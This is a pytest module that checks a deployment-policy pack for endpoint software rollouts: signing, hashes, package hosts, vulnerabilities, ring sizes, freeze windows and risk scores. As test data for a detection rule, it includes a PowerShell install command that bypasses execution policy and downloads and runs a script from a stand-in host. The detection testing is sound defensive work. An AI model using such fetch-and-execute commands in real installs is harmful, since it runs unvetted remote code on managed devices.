"""The default policy pack (``policies/*.yaml``): every rule fires when it should and stays quiet
when it should not, no rule errors on a valid intent, and the risk score is calibrated.

Each scenario mutates a "perfect" intent (signed, allowed host, real hash, SBOM, test report, no
vulnerabilities, rollback plan, ticket, lab 10 -> pilot 50 -> broad 2000 with 48h soaks, user
context, no admin rights) and judges it with :func:`bot.core.check.judge_intent`.
"""

from __future__ import annotations

import copy
import json
import zoneinfo
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.catalog import build_document_validator, build_policy_pack, cel_environment
from bot.core.changes import ChangeKind
from bot.core.check import Judgement, judge_intent
from bot.core.documents import DocumentKind
from bot.core.facts import FactInputs
from bot.core.families import RISK_FAMILIES
from bot.core.policy import CompiledPolicyPack, Enforcement, RuleResult

ROOT = Path(__file__).resolve().parents[2]
EXAMPLES = ROOT / "examples" / "intents-repo"

WEDNESDAY = datetime(2027, 3, 3, 10, 0, tzinfo=UTC)
SATURDAY = datetime(2027, 3, 6, 10, 0, tzinfo=UTC)
EMERGENCY = "eucora:emergency"
APP = "Perfect App"
ALL_DEVICES = "acacacac-9df4-4c7d-9d50-4ef0226f57a9"  # Intune's virtual "All devices" group
EMPTY_FILE_SHA256 = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"

CONFIG: dict[str, Any] = {
    "apiVersion": "eucora.dev/v1",
    "kind": "EucoraConfig",
    "cab": {"teams": ["contoso/cab-desktop"]},
    "risk": {
        "thresholds": {"medium": 25, "high": 50, "critical": 75},
        "approvals": {"low": 0, "medium": 1, "high": 2, "critical": 2},
    },
    "freezeWindows": [
        {
            "name": "year-end",
            "timezone": "UTC",
            "start": "2027-12-20T00:00:00Z",
            "end": "2028-01-03T00:00:00Z",
        },
        {
            "name": "weekend",
            "timezone": "UTC",
            "days": ["sat", "sun"],
            "from": "00:00",
            "to": "23:59",
        },
    ],
    "packageHosts": ["downloads.perfect.example", "*.contoso.com"],
    "limits": {
        "firstRingMaxDevices": 50,
        "firstRingMaxPercent": 5,
        "minSoak": {"low": "PT4H", "medium": "PT24H", "high": "P2D", "critical": "P3D"},
    },
    "labels": {"emergency": EMERGENCY},
}
ZONES = {"UTC": UTC}

PERFECT: dict[str, Any] = {
    "apiVersion": "eucora.dev/v1",
    "kind": "DeploymentIntent",
    "metadata": {
        "name": "perfect-app",
        "owner": "contoso/desktop-team",
        "labels": {"category": "utilities"},
    },
    "app": {"name": APP, "publisher": "Perfect Software Ltd", "version": "2.4.1"},
    "platform": "windows",
    "plane": "intune",
    "package": {
        "type": "msi",
        "url": "https://downloads.perfect.example/releases/2.4.1/perfect-x64.msi",
        "sha256": "3a7bd3e2360a3d29eea436fcfb7e44c735d117c42d1c1835420b6b9942dd4f1b",
        "sizeBytes": 10485760,
        "signed": True,
        "signer": {
            "subject": "CN=Perfect Software Ltd, O=Perfect Software Ltd, C=GB",
            "thumbprint": "A1B2C3D4E5F60718293A4B5C6D7E8F9012345678",
        },
        "requiresAdmin": False,
        "installContext": "user",
        "installCommand": 'msiexec /i "perfect-x64.msi" /qn /norestart',
        "detection": {
            "type": "msiProductCode",
            "productCode": "{0F1E2D3C-4B5A-6978-8796-A5B4C3D2E1F0}",
        },
    },
    "rings": [
        {
            "name": "lab",
            "target": "6513270e-269e-4d37-b2a7-4de452e6b438",
            "devices": 10,
            "assignment": "required",
            "gate": {"minSuccessPercent": 100, "soak": "PT48H", "maxFailures": 0},
        },
        {
            "name": "pilot",
            "target": "d23f0824-128b-4f33-8c5c-7fd0a6a3a450",
            "devices": 50,
            "assignment": "required",
            "gate": {"minSuccessPercent": 98, "soak": "PT48H", "maxFailures": 1},
        },
        {
            "name": "broad",
            "target": "36f675cc-81e7-4ef5-a8e2-5d940ed90475",
            "devices": 2000,
            "assignment": "required",
        },
    ],
    "rollback": {"strategy": "previous-version", "previousVersion": "2.4.0"},
    "evidence": {
        "testReport": "https://wiki.contoso.com/euc/test-reports/perfect-app-2.4.1",
        "sbom": "https://artifacts.contoso.com/sbom/perfect-app/2.4.1.cdx.json",
        "vulnerabilities": {"critical": 0, "high": 0, "medium": 0, "low": 0},
    },
    "change": {
        "ticket": "CHG0040001",
        "window": {"start": "2027-03-01T08:00:00Z", "end": "2027-03-26T18:00:00Z"},
    },
}


# --- editing the perfect intent -------------------------------------------------------------------

Edit = Callable[[dict[str, Any]], None]


def _walk(data: dict[str, Any], path: str) -> tuple[Any, str | int]:
    *parents, last = path.split(".")
    node: Any = data
    for part in parents:
        node = node[int(part)] if isinstance(node, list) else node[part]
    return node, int(last) if isinstance(node, list) else last


def put(path: str, value: Any) -> Edit:
    """Set a field by dotted path (list indexes as numbers): ``put('rings.0.devices', 60)``."""

    def edit(data: dict[str, Any]) -> None:
        node, key = _walk(data, path)
        node[key] = copy.deepcopy(value)

    return edit


def drop(path: str) -> Edit:
    """Remove a field by dotted path."""

    def edit(data: dict[str, Any]) -> None:
        node, key = _walk(data, path)
        del node[key]

    return edit


def both(*edits: Edit) -> Edit:
    def edit(data: dict[str, Any]) -> None:
        for each in edits:
            each(data)

    return edit


def nothing(data: dict[str, Any]) -> None:
    del data


def sizes(*devices: int) -> Edit:
    """Set the ring sizes; fewer sizes than rings drop the last rings."""

    def edit(data: dict[str, Any]) -> None:
        data["rings"] = data["rings"][: len(devices)]
        for ring, count in zip(data["rings"], devices, strict=True):
            ring["devices"] = count

    return edit


SINGLE_RING = sizes(10)


@dataclass(frozen=True)
class Scenario:
    """One judged change: the head intent (and base intent) as edits of the perfect intent."""

    edit: Edit = nothing
    change: ChangeKind = ChangeKind.ADDED
    base: Edit | None = None
    labels: tuple[str, ...] = ()
    now: datetime = WEDNESDAY
    config_changed: bool = False
    policies_changed: bool = False
    known_app: bool = True
    config: dict[str, Any] = field(default_factory=lambda: CONFIG)

    def intents(self) -> tuple[dict[str, Any], dict[str, Any] | None]:
        intent = copy.deepcopy(PERFECT)
        self.edit(intent)
        base = None
        if self.base is not None:
            base = copy.deepcopy(PERFECT)
            self.base(base)
        return intent, base


def modified(edit: Edit = nothing, base: Edit = nothing, **kwargs: Any) -> Scenario:
    return Scenario(edit=edit, change=ChangeKind.MODIFIED, base=base, **kwargs)


@pytest.fixture(scope="module")
def pack() -> CompiledPolicyPack:
    return build_policy_pack()


def judge(  # noqa: PLR0913 - one keyword per FactInputs field
    pack: CompiledPolicyPack,
    intent: dict[str, Any],
    *,
    base: dict[str, Any] | None = None,
    change: ChangeKind = ChangeKind.ADDED,
    labels: tuple[str, ...] = (),
    now: datetime = WEDNESDAY,
    config: dict[str, Any] = CONFIG,
    config_changed: bool = False,
    policies_changed: bool = False,
    known_app: bool = True,
) -> Judgement:
    judgement = judge_intent(
        FactInputs(
            change=change,
            path="intents/x.yaml",
            intent=intent,
            base=base,
            config=config,
            now=now,
            labels=labels,
            timezones=ZONES,
            config_changed=config_changed,
            policies_changed=policies_changed,
            known_apps=frozenset({APP}) if known_app else frozenset(),
        ),
        pack,
        cel_environment(),
        name="x",
    )
    errors = {r.rule.id: r.error for r in judgement.results if r.error is not None}
    assert errors == {}, "no rule may fail on a valid intent"
    return judgement


def judge_scenario(pack: CompiledPolicyPack, scenario: Scenario) -> Judgement:
    intent, base = scenario.intents()
    assert_valid(intent)
    if base is not None:
        assert_valid(base)
    return judge(
        pack,
        intent,
        base=base,
        change=scenario.change,
        labels=scenario.labels,
        now=scenario.now,
        config=scenario.config,
        config_changed=scenario.config_changed,
        policies_changed=scenario.policies_changed,
        known_app=scenario.known_app,
    )


def assert_valid(intent: dict[str, Any]) -> None:
    """Scenarios must be intents the schema (and EUCORA's semantic checks) accept."""
    doc = build_document_validator().validate(
        json.dumps(intent).encode(), "intents/x.yaml", DocumentKind.INTENT
    )
    assert doc.ok, [f"{f.code}: {f.message}" for f in doc.findings]


def result_of(judgement: Judgement, rule_id: str) -> RuleResult:
    (result,) = [r for r in judgement.results if r.rule.id == rule_id]
    return result


def denied(judgement: Judgement) -> set[str]:
    return {r.rule.id for r in judgement.results if r.enforced}


def matched(judgement: Judgement) -> set[str]:
    return {r.rule.id for r in judgement.results if r.matched}


# --- one firing and one quiet scenario per rule ---------------------------------------------------

UNSIGNED = put("package.signed", False)
ADMIN = put("package.requiresAdmin", True)
SYSTEM = put("package.installContext", "system")
OLDER = put("app.version", "2.3.0")
NEWER = put("app.version", "2.5.0")

CASES: dict[str, tuple[Scenario, Scenario]] = {
    # supply chain
    "package.unsigned": (Scenario(both(UNSIGNED, SINGLE_RING)), Scenario()),
    "package.unsigned-beyond-pilot": (Scenario(UNSIGNED), Scenario(both(UNSIGNED, SINGLE_RING))),
    "package.placeholder-hash": (Scenario(put("package.sha256", "0" * 64)), Scenario()),
    "package.host-not-allowed": (
        Scenario(put("package.url", "https://downloads.perfect-app.example.net/perfect-x64.msi")),
        Scenario(put("package.url", "https://packages.contoso.com/win32/perfect-x64.msi")),
    ),
    "package.signer-unnamed": (
        Scenario(drop("package.signer")),
        Scenario(put("package.signer", {"thumbprint": "A1B2C3D4E5F60718293A4B5C6D7E8F9012345678"})),
    ),
    "package.signer-changed": (
        modified(base=both(OLDER, put("package.signer.thumbprint", "F" * 40))),
        modified(
            base=both(
                OLDER, put("package.signer.thumbprint", "a1b2c3d4e5f60718293a4b5c6d7e8f9012345678")
            )
        ),
    ),
    "package.publisher-changed": (
        modified(base=both(OLDER, put("app.publisher", "Imperfect Holdings Inc"))),
        modified(base=both(OLDER, put("app.publisher", "PERFECT SOFTWARE LTD"))),
    ),
    "package.same-version-new-binary": (
        modified(base=put("package.sha256", "b" * 63 + "c")),
        modified(base=both(OLDER, put("package.sha256", "b" * 63 + "c"))),
    ),
    # vulnerabilities
    "vulns.critical": (
        Scenario(put("evidence.vulnerabilities.critical", 1)),
        Scenario(put("evidence.vulnerabilities.medium", 4)),
    ),
    "vulns.high": (
        Scenario(put("evidence.vulnerabilities.high", 2)),
        Scenario(put("evidence.vulnerabilities.medium", 4)),
    ),
    "vulns.unreported": (
        Scenario(drop("evidence.vulnerabilities.high")),
        Scenario(
            both(drop("evidence.vulnerabilities.medium"), drop("evidence.vulnerabilities.low"))
        ),
    ),
    "evidence.no-sbom": (Scenario(drop("evidence.sbom")), Scenario()),
    # privilege, exploitability, data access
    "package.requires-admin": (Scenario(ADMIN), Scenario(drop("package.requiresAdmin"))),
    "package.system-context": (Scenario(SYSTEM), Scenario(drop("package.installContext"))),
    "package.script-as-system": (
        Scenario(both(put("package.type", "script"), SYSTEM)),
        Scenario(put("package.type", "script")),
    ),
    "package.unsigned-elevated": (
        Scenario(both(UNSIGNED, ADMIN, SINGLE_RING)),
        Scenario(both(UNSIGNED, SINGLE_RING)),
    ),
    "package.remote-code-in-command": (
        Scenario(
            put(
                "package.installCommand",
                'powershell.exe -ExecutionPolicy Bypass -Command "iwr https://x.example/i.ps1 | iex"',
            )
        ),
        Scenario(
            put("package.uninstallCommand", "msiexec /x {0F1E2D3C-4B5A-6978-8796-A5B4C3D2E1F0} /qn")
        ),
    ),
    "data.confidential": (
        Scenario(put("metadata.labels.data-classification", "confidential")),
        Scenario(put("metadata.labels.data-classification", "internal")),
    ),
    "data.restricted": (
        Scenario(put("metadata.labels.data-classification", "Restricted")),
        Scenario(put("metadata.labels.data-classification", "confidential")),
    ),
    # rollout
    "rollout.first-ring-too-large": (
        Scenario(sizes(60, 200, 2000)),
        Scenario(sizes(50, 100, 2000)),
    ),
    "rollout.required-to-all-devices": (
        Scenario(put("rings.2.target", ALL_DEVICES)),
        Scenario(both(put("rings.2.target", ALL_DEVICES), put("rings.2.assignment", "available"))),
    ),
    "rollout.soak-below-tier": (
        Scenario(put("rings.0.gate.soak", "PT2H")),
        Scenario(put("rings.0.gate.soak", "PT4H")),
    ),
    "rollout.ring-without-soak": (
        Scenario(drop("rings.1.gate.soak")),
        Scenario(put("rings.2.gate", {"minSuccessPercent": 90})),
    ),
    "rollout.fleet-over-1000": (Scenario(), Scenario(sizes(10, 50, 940))),
    "rollout.fleet-over-5000": (Scenario(sizes(10, 50, 6000)), Scenario()),
    "rollout.fleet-growth": (
        modified(base=sizes(10, 50, 200)),
        modified(base=sizes(10, 50, 1500)),
    ),
    "rollout.uninstall-assignment": (
        Scenario(put("rings.2.assignment", "uninstall")),
        Scenario(put("rings.2.assignment", "available")),
    ),
    # change management
    "change.ticket-required": (
        Scenario(drop("change.ticket")),
        Scenario(both(drop("change.ticket"), SINGLE_RING)),
    ),
    "change.ticket-reused": (
        modified(base=OLDER),
        modified(base=both(OLDER, put("change.ticket", "CHG0039999"))),
    ),
    "change.freeze-window": (
        Scenario(now=SATURDAY),
        Scenario(put("rings.1.schedule", {"start": "2027-12-17T09:00:00Z"})),
    ),
    "change.freeze-emergency": (
        Scenario(
            put("change.emergencyReason", "Actively exploited CVE."),
            labels=(EMERGENCY,),
            now=SATURDAY,
        ),
        Scenario(put("change.emergencyReason", "Actively exploited CVE."), labels=(EMERGENCY,)),
    ),
    "change.emergency-needs-reason": (
        Scenario(labels=(EMERGENCY,)),
        Scenario(put("change.emergencyReason", "Actively exploited CVE."), labels=(EMERGENCY,)),
    ),
    "change.intent-deleted": (Scenario(change=ChangeKind.DELETED), modified(base=OLDER)),
    "change.config-or-policies": (Scenario(config_changed=True), Scenario()),
    # release
    "version.downgrade-without-rollback": (
        modified(put("rollback", {"strategy": "none"}), base=NEWER),
        modified(put("rollback", {"strategy": "manual", "notes": "re-run 2.5.0"}), base=NEWER),
    ),
    "version.downgrade": (modified(base=NEWER), modified(base=OLDER)),
    "version.major-upgrade": (
        modified(base=put("app.version", "1.9.0")),
        modified(base=put("app.version", "2.0.0")),
    ),
    "version.order-unknown": (
        modified(
            base=both(put("app.version", "2.4.0esr"), put("rollback", {"strategy": "manual"}))
        ),
        modified(base=put("app.version", "2.4.0")),
    ),
    "rollback.missing": (
        Scenario(drop("rollback")),
        Scenario(put("rollback", {"strategy": "uninstall"})),
    ),
    "evidence.no-test-report": (Scenario(drop("evidence.testReport")), Scenario()),
    "app.first-deployment": (Scenario(known_app=False), modified(base=OLDER, known_app=False)),
}

TABLE = [
    pytest.param(rule_id, scenario, fires, id=f"{rule_id}-{'fires' if fires else 'quiet'}")
    for rule_id, pair in CASES.items()
    for scenario, fires in zip(pair, (True, False), strict=True)
]


@pytest.mark.parametrize(("rule_id", "scenario", "fires"), TABLE)
def test_rule(pack: CompiledPolicyPack, rule_id: str, scenario: Scenario, fires: bool) -> None:
    judgement = judge_scenario(pack, scenario)
    result = result_of(judgement, rule_id)
    assert result.matched is fires
    rule = result.rule
    if not fires:
        assert not result.enforced
        assert rule_id not in {f.rule for f in judgement.factors}
        return
    assert result.enforced is (
        rule.enforcement is Enforcement.DENY and rule.deny_message is not None
    )
    if rule.risk is not None:
        assert rule_id in {f.rule for f in judgement.factors}
    if rule.deny_message is not None:
        assert_message_renders(judgement, scenario, result)


def assert_message_renders(judgement: Judgement, scenario: Scenario, result: RuleResult) -> None:
    """Every ``{{ }}`` placeholder of a firing rule evaluates (a failed one would render as ?)."""
    intent, base = scenario.intents()
    env = cel_environment()
    activation = env.activation(
        {
            "intent": intent,
            "base": base,
            "facts": dict(judgement.facts),
            "config": scenario.config,
            "now": scenario.now,
        }
    )
    for expression, program in result.rule.placeholders:
        outcome = env.evaluate(program, activation)
        assert outcome.error is None, f"{{{{{expression}}}}}: {outcome.error}"
    assert "{{" not in result.message
    assert result.message.strip()


# --- extra scenarios for rules with several triggers ----------------------------------------------


@pytest.mark.parametrize("sha256", ["0" * 64, "f" * 64, EMPTY_FILE_SHA256])
def test_placeholder_hashes_are_denied(pack: CompiledPolicyPack, sha256: str) -> None:
    judgement = judge_scenario(pack, Scenario(put("package.sha256", sha256)))
    assert denied(judgement) == {"package.placeholder-hash"}
    assert sha256 in result_of(judgement, "package.placeholder-hash").message


def test_first_ring_share_of_the_rollout(pack: CompiledPolicyPack) -> None:
    # 10 of 160 devices is 7% (> 5%), although 10 devices is under the 50-device limit.
    judgement = judge_scenario(pack, Scenario(sizes(10, 50, 100)))
    result = result_of(judgement, "rollout.first-ring-too-large")
    assert result.matched
    assert not result.enforced  # warn
    assert "first ring lab has 10 devices (7% of 160)" in result.message
    # a single ring is judged by its size only
    assert not result_of(
        judge_scenario(pack, Scenario(sizes(10))), "rollout.first-ring-too-large"
    ).matched


def test_freeze_window_at_a_scheduled_start(pack: CompiledPolicyPack) -> None:
    judgement = judge_scenario(
        pack, Scenario(put("rings.2.schedule", {"start": "2027-12-28T09:00:00Z"}))
    )
    assert denied(judgement) == {"change.freeze-window"}
    assert "year-end" in result_of(judgement, "change.freeze-window").message


def test_policy_edits_need_two_approvals(pack: CompiledPolicyPack) -> None:
    for scenario in (Scenario(config_changed=True), Scenario(policies_changed=True)):
        result = result_of(judge_scenario(pack, scenario), "change.config-or-policies")
        assert result.matched
        assert result.rule.approvals == 2


def test_emergency_in_freeze_needs_two_approvals(pack: CompiledPolicyPack) -> None:
    scenario = Scenario(
        put("change.emergencyReason", "Actively exploited CVE."), labels=(EMERGENCY,), now=SATURDAY
    )
    judgement = judge_scenario(pack, scenario)
    assert denied(judgement) == set()
    assert result_of(judgement, "change.freeze-emergency").rule.approvals == 2


def test_soak_minimum_follows_the_tier(pack: CompiledPolicyPack) -> None:
    # 24h soaks satisfy a low-risk change, not a high-risk one (limits.minSoak.high = P2D).
    soaks = both(put("rings.0.gate.soak", "PT24H"), put("rings.1.gate.soak", "PT24H"))
    assert "rollout.soak-below-tier" not in denied(judge_scenario(pack, Scenario(soaks)))
    risky = both(
        soaks,
        ADMIN,
        SYSTEM,
        put("evidence.vulnerabilities.high", 3),
        sizes(10, 50, 6000),
        drop("evidence.sbom"),
        put("metadata.labels.data-classification", "restricted"),
    )
    judgement = judge_scenario(pack, Scenario(risky, known_app=False))
    assert judgement.tier == "high"
    assert denied(judgement) == {"rollout.soak-below-tier"}
    assert "needs at least 48h" in result_of(judgement, "rollout.soak-below-tier").message


def test_deleting_an_intent_is_never_denied_for_its_content(pack: CompiledPolicyPack) -> None:
    judgement = judge(pack, nasty_intent(), change=ChangeKind.DELETED)
    assert denied(judgement) == set()
    assert matched(judgement) == {"change.intent-deleted"}
    assert result_of(judgement, "change.intent-deleted").rule.approvals == 1
    assert "20060 devices" in result_of(judgement, "change.intent-deleted").message


# --- the pack as a whole ----------------------------------------------------------------------------


def test_default_pack_compiles_cleanly(pack: CompiledPolicyPack) -> None:
    assert pack.findings == ()
    ids = [r.id for r in pack.rules]
    assert len(ids) >= 18
    assert len(set(ids)) == len(ids)
    assert all(r.source.startswith("eucora:policies/") for r in pack.rules)


def test_every_rule_has_a_case(pack: CompiledPolicyPack) -> None:
    assert {r.id for r in pack.rules} == set(CASES)


def test_rules_respect_the_family_caps_and_the_tier_cycle(pack: CompiledPolicyPack) -> None:
    for rule in pack.rules:
        if rule.risk is not None:
            assert rule.risk.family in RISK_FAMILIES
            assert rule.risk.points <= RISK_FAMILIES[rule.risk.family]
            assert not rule.uses_tier
        assert rule.risk is not None or rule.deny_message is not None or rule.approvals is not None


def test_the_perfect_intent_scores_low(pack: CompiledPolicyPack) -> None:
    judgement = judge_scenario(pack, Scenario())
    assert denied(judgement) == set()
    assert matched(judgement) == {"rollout.fleet-over-1000"}
    assert judgement.score < 25
    assert judgement.tier == "low"
    # a first deployment of it, and a single lab ring, are low risk too
    assert judge_scenario(pack, Scenario(known_app=False)).score < 25
    lab_only = judge_scenario(pack, Scenario(SINGLE_RING, known_app=False))
    assert denied(lab_only) == set()
    assert lab_only.tier == "low"


def nasty_intent() -> dict[str, Any]:
    intent = copy.deepcopy(PERFECT)
    both(
        put("app.version", "3.0.0"),
        UNSIGNED,
        drop("package.signer"),
        ADMIN,
        SYSTEM,
        put("package.type", "exe"),
        put("evidence.vulnerabilities.high", 4),
        drop("evidence.sbom"),
        sizes(10, 50, 20000),
    )(intent)
    return intent


def test_the_nasty_intent_scores_high_but_not_100(pack: CompiledPolicyPack) -> None:
    base = copy.deepcopy(PERFECT)
    judgement = judge(pack, nasty_intent(), known_app=False)  # first deployment
    assert judgement.score >= 50
    assert judgement.score < 100
    assert judgement.tier in {"high", "critical"}
    assert "package.unsigned-beyond-pilot" in denied(judgement)
    # the same as a major upgrade of an existing intent
    upgrade = judge(pack, nasty_intent(), base=base, change=ChangeKind.MODIFIED)
    assert "version.major-upgrade" in {f.rule for f in upgrade.factors}
    assert 50 <= upgrade.score < 100


# --- the example repository -------------------------------------------------------------------------

EXAMPLE_INTENTS = sorted((EXAMPLES / "intents").rglob("*.yaml"))
# 7-Zip's MSI is not Authenticode-signed and goes to three rings: a genuine denial, for the example
# repository to waive (or to sign the package in its pipeline).
EXPECTED_EXAMPLE_DENIALS = {"7-zip": {"package.unsigned-beyond-pilot"}}


@pytest.mark.parametrize("path", EXAMPLE_INTENTS, ids=lambda p: p.stem)
def test_example_intents_pass_the_default_pack(pack: CompiledPolicyPack, path: Path) -> None:
    validator = build_document_validator()
    config = validator.validate(
        (EXAMPLES / "eucora.yaml").read_bytes(), "eucora.yaml", DocumentKind.CONFIG
    )
    doc = validator.validate(path.read_bytes(), str(path), DocumentKind.INTENT)
    assert config.ok
    assert doc.ok
    judgement = judge_intent(
        FactInputs(
            change=ChangeKind.ADDED,
            path=str(path.relative_to(EXAMPLES)),
            intent=doc.data,
            base=None,
            config=config.data,
            now=datetime(2027, 2, 15, 12, 0, tzinfo=UTC),
            timezones={"UTC": UTC, "Europe/Berlin": zoneinfo.ZoneInfo("Europe/Berlin")},
        ),
        pack,
        cel_environment(),
        name=path.stem,
    )
    assert [r.rule.id for r in judgement.results if r.error is not None] == []
    assert denied(judgement) == EXPECTED_EXAMPLE_DENIALS.get(path.stem, set())
    assert judgement.tier in {"low", "medium"}


# --- properties -------------------------------------------------------------------------------------

RING_NAMES = ("lab", "pilot", "early", "broad", "wide")
RING_TARGETS = (
    "6513270e-269e-4d37-b2a7-4de452e6b438",
    "d23f0824-128b-4f33-8c5c-7fd0a6a3a450",
    "9531985d-5d9d-49f8-9818-e811892f902b",
    "36f675cc-81e7-4ef5-a8e2-5d940ed90475",
    ALL_DEVICES,
)
counts = st.none() | st.integers(min_value=0, max_value=5)


@st.composite
def intents(draw: st.DrawFn) -> dict[str, Any]:
    """Valid intents with any mix of the risk factors the default pack looks at."""
    intent = copy.deepcopy(PERFECT)
    package = intent["package"]
    package["signed"] = draw(st.booleans())
    if draw(st.booleans()):
        del package["signer"]
    package["requiresAdmin"] = draw(st.booleans())
    package["installContext"] = draw(st.sampled_from(["user", "system"]))
    package["type"] = draw(st.sampled_from(["msi", "exe", "win32", "msix", "script"]))
    package["url"] = draw(
        st.sampled_from(
            [
                "https://downloads.perfect.example/p.msi",
                "https://packages.contoso.com/p.msi",
                "https://mirror.example.net/p.msi",
            ]
        )
    )
    package["sha256"] = draw(
        st.sampled_from([PERFECT["package"]["sha256"], "0" * 64, EMPTY_FILE_SHA256])
    )
    if draw(st.booleans()):
        package["installCommand"] = "powershell -ep bypass -File install.ps1"
    devices = sorted(draw(st.lists(st.integers(0, 60000), min_size=1, max_size=5)))
    rings = []
    for index, count in enumerate(devices):
        ring: dict[str, Any] = {
            "name": RING_NAMES[index],
            "target": draw(st.sampled_from(RING_TARGETS)),
            "devices": count,
            "assignment": draw(st.sampled_from(["required", "available", "uninstall"])),
        }
        soak = draw(st.sampled_from([None, "PT2H", "PT24H", "P3D"]))
        if soak is not None:
            ring["gate"] = {"soak": soak}
        rings.append(ring)
    intent["rings"] = rings
    vulns = {k: v for k in ("critical", "high", "medium") if (v := draw(counts)) is not None}
    evidence: dict[str, Any] = {"vulnerabilities": vulns}
    if draw(st.booleans()):
        evidence["sbom"] = PERFECT["evidence"]["sbom"]
    if draw(st.booleans()):
        evidence["testReport"] = PERFECT["evidence"]["testReport"]
    intent["evidence"] = evidence
    rollback = draw(st.sampled_from([None, "none", "manual", "previous-version"]))
    if rollback is None:
        del intent["rollback"]
    else:
        intent["rollback"] = {"strategy": rollback}
    if draw(st.booleans()):
        del intent["change"]["ticket"]
    label = draw(st.sampled_from([None, "public", "confidential", "restricted"]))
    if label is not None:
        intent["metadata"]["labels"]["data-classification"] = label
    intent["app"]["version"] = draw(st.sampled_from(["2.4.1", "3.0.0", "1.0.0", "2.4.1esr"]))
    return intent


# Changes that only add risk: each may make rules fire, none may make the score drop.
WORSENINGS: dict[str, Edit] = {
    "requires-admin": ADMIN,
    "system-context": SYSTEM,
    "unsigned": UNSIGNED,
    "no-sbom": lambda i: i["evidence"].pop("sbom", None),
    "no-test-report": lambda i: i["evidence"].pop("testReport", None),
    "another-high-vuln": lambda i: i["evidence"]["vulnerabilities"].update(
        high=i["evidence"]["vulnerabilities"].get("high", 0) + 1
    ),
    "another-critical-vuln": lambda i: i["evidence"]["vulnerabilities"].update(
        critical=i["evidence"]["vulnerabilities"].get("critical", 0) + 1
    ),
    "ten-times-the-devices": lambda i: i.update(
        rings=[{**r, "devices": r["devices"] * 10} for r in i["rings"]]
    ),
    "restricted-data": put("metadata.labels.data-classification", "restricted"),
    "unknown-host": put("package.url", "https://mirror.example.net/p.msi"),
}


@given(
    intent=intents(),
    change=st.sampled_from([ChangeKind.ADDED, ChangeKind.MODIFIED, ChangeKind.DELETED]),
    emergency=st.booleans(),
    known_app=st.booleans(),
)
def test_the_score_stays_in_range_and_no_rule_errors(
    pack: CompiledPolicyPack,
    intent: dict[str, Any],
    change: ChangeKind,
    emergency: bool,
    known_app: bool,
) -> None:
    base = copy.deepcopy(PERFECT) if change is ChangeKind.MODIFIED else None
    judgement = judge(
        pack,
        intent,
        base=base,
        change=change,
        labels=(EMERGENCY,) if emergency else (),
        known_app=known_app,
    )
    assert 0 <= judgement.score <= 100
    assert judgement.tier in {"low", "medium", "high", "critical"}


@given(intent=intents(), worsening=st.sampled_from(sorted(WORSENINGS)), known_app=st.booleans())
def test_adding_a_risk_factor_never_lowers_the_score(
    pack: CompiledPolicyPack, intent: dict[str, Any], worsening: str, known_app: bool
) -> None:
    before = judge(pack, intent, known_app=known_app).score
    worse = copy.deepcopy(intent)
    WORSENINGS[worsening](worse)
    assert judge(pack, worse, known_app=known_app).score >= before
